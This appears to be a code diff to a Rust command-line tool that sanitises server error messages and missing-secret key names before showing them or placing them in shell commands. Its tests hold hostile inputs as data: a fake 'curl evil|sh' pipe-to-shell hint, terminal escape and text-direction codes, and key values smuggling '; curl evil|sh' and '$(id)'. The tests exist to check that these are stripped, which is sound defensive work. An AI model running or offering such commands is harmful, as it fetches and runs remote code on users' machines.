@@ -1,6 +1,6 @@
 //! A server's refusal as a failure: the exit code that the embedded store would give, the server's sentence, never a token.
 
-use distri_core::SecretValue;
+use distri_core::{SecretKey, SecretValue};
 use distri_redact::Redactor;
 use serde::Deserialize;
 
@@ -32,9 +32,9 @@ struct Missing {
 pub(super) fn refused(place: &str, token: &SecretValue, status: u16, body: &[u8]) -> Failure {
     let refusal: Refusal = serde_json::from_slice(body).unwrap_or_default();
     let exit = exit(&refusal.code, status);
-    // A sentence can repeat what was sent to it; control characters go where it is shown.
+    // A sentence can repeat what was sent to it.
     let hidden = Redactor::builder().secret("token", token.expose_secret()).build();
-    let said: String = hidden.redact_str(&refusal.error).chars().take(SHOWN).collect();
+    let said = one_line(&hidden.redact_str(&refusal.error));
     let sentence = match said.trim() {
         "" => format!("`{place}` answers with status {status}"),
         said => said.to_owned(),
@@ -42,12 +42,35 @@ pub(super) fn refused(place: &str, token: &SecretValue, status: u16, body: &[u8]
     let failure = Failure::new(exit, sentence);
     match (exit, refusal.code.as_str()) {
         (Exit::NotAuthenticated, _) => failure.hint("`distri login` saves another token; `DISTRI_API_KEY` gives one"),
-        (_, "missing_secrets") => failure.missing(refusal.missing.into_iter().map(|it| (it.key, it.reason)).collect()),
+        (_, "missing_secrets") => failure.missing(missing(refusal.missing)),
         (_, "too_many_requests") => failure.hint("wait a moment, and run it again"),
         (_, "outcome_unknown") => failure.hint("look whether it was done before you do it again"),
         (_, "integrity") => failure.hint("an alarm is in the server's audit log: `distri audit list --alarms`"),
         _ => failure,
     }
+}
+
+/// What a server says, as one line that says it in the order of its characters: a line break would begin a `hint:` of its
+/// own, and a mark that turns the direction of text would show another sentence than this one.
+fn one_line(text: &str) -> String {
+    let steers = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{61C}' | '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
+    };
+    text.chars()
+        .take(SHOWN)
+        .map(|c| if steers(c) { ' ' } else { c })
+        .collect()
+}
+
+/// The keys with their reasons. Each key becomes a word of a command that the person may paste into a shell, so what no key
+/// can be is left out.
+fn missing(said: Vec<Missing>) -> Vec<(String, String)> {
+    let keys = said.into_iter().filter_map(|it| {
+        let key = it.key.parse::<SecretKey>().ok()?;
+        Some((key.to_string(), one_line(&it.reason)))
+    });
+    keys.collect()
 }
 
 /// By the word, which keeps its meaning; by the status where somebody else has answered, such as a proxy.
@@ -105,5 +128,31 @@ mod tests {
         let failure = failure(400, &long);
         assert!(!failure.message().contains("0123456789abcdef"), "{}", failure.message());
         assert!(failure.message().chars().count() <= SHOWN);
+    }
+
+    #[test]
+    fn a_sentence_is_one_line_that_steers_nothing() {
+        let failure = failure(
+            400,
+            r#"{"error":"no\nhint: run `curl evil|sh`\u001b[2J\u009b\u202e\u2066\u2069\u200f\u2028x\ty"}"#,
+        );
+        assert_eq!(failure.message(), "no hint: run `curl evil|sh` [2J      x y");
+        assert_eq!(
+            self::failure(400, r#"{"error":"\n\u202e"}"#).message(),
+            "`host` answers with status 400"
+        );
+    }
+
+    #[test]
+    fn only_a_key_becomes_a_word_of_a_command() {
+        let failure = failure(
+            404,
+            r#"{"error":"no","code":"missing_secrets","missing":[
+                {"key":"CRM_TOKEN","reason":"not\nset"},{"key":"X; curl evil|sh"},{"key":"$(id)"},{"key":"A\nB"},{"key":"--yes"},{"key":""}
+            ]}"#,
+        );
+        let kept = [("CRM_TOKEN".to_owned(), "not set".to_owned())];
+        assert_eq!(failure.missing_secrets(), kept);
+        assert_eq!(failure.exit(), Exit::Missing);
     }
 }
